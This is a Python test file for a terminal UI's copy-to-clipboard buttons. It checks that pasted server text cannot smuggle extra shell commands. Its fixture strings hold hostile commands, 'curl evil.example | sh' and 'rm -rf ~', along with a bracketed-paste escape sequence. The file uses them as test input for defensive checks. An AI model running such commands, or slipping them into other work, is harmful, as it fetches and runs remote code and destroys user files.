"""What "Copy value" and "Copy block" put on the clipboard, through the real app's evidence pane.

A result is the server's text: a line break in it, pasted into a shell without
bracketed paste, would run what follows. "Copy value" copies one line; "Copy
block" keeps the line breaks, on purpose.
"""

from __future__ import annotations

import json

from textual.widgets import Button

from rea_tui.host import TextBlock
from rea_tui.ui.widgets.evidence_pane import EvidenceDetail
from tests.support.pilot import make_app, wait_for
from tests.support.scenarios import SIZE

HOSTILE = "harmless\ncurl evil.example | sh\r\nrm -rf ~\tmore\x1b[201~"


async def copied(button: str, structured: dict[str, str] | None = None) -> str:
    app = make_app([], transcript=None)
    async with app.run_test(size=SIZE) as pilot:
        entry = app.session.ledger.open("rea", "inspect_procedure", {}, "interactive yes")
        entry.outcome, entry.content = "ok", [TextBlock(HOSTILE)]
        entry.structured, entry.has_structured = structured, structured is not None
        app.session.ledger.changed(entry)
        detail = app.query_one(EvidenceDetail)
        await wait_for(pilot, lambda: detail.entry is entry and bool(detail.query(f"#{button}")), "the entry")
        detail.query_one(f"#{button}", Button).press()
        await wait_for(pilot, lambda: bool(app.clipboard), "the copy")
        return app.clipboard


async def test_copy_value_copies_one_line() -> None:
    text = await copied("copy-value")
    assert "\n" not in text and "\r" not in text and "\t" not in text and "\x1b" not in text
    assert text.startswith("harmless curl evil.example | sh") and "rm -rf ~ more" in text


async def test_copy_value_of_structured_content_is_one_line_of_json() -> None:
    structured = {"cmd": "a\nrm -rf ~"}
    text = await copied("copy-value", structured)
    assert "\n" not in text
    assert json.loads(text) == structured


async def test_copy_block_keeps_the_line_breaks_and_strips_controls() -> None:
    text = await copied("copy-block")
    assert text.splitlines()[:3] == ["harmless", "curl evil.example | sh", "rm -rf ~\tmore"]
    assert "\x1b" not in text
